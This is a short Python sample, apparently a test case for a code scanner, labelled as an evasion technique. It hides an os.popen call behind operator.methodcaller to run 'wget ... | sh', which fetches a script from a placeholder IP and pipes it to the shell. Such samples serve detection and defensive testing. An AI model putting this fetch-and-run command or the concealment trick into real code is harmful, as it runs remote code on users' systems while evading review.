# Evasion: runs a shell command that downloads and runs a script.
# Hidden through operator.methodcaller: the method name "popen" is a string
# argument and the module object is passed as the callee's argument, so no
# os.popen(...) call appears.
import operator
import os

steps = [
    operator.methodcaller("getcwd"),
    operator.methodcaller("popen", "wget -qO- http://198.51.100.9/s | sh"),
]
results = [step(os) for step in steps]
print(results[0])
print(results[1].read())
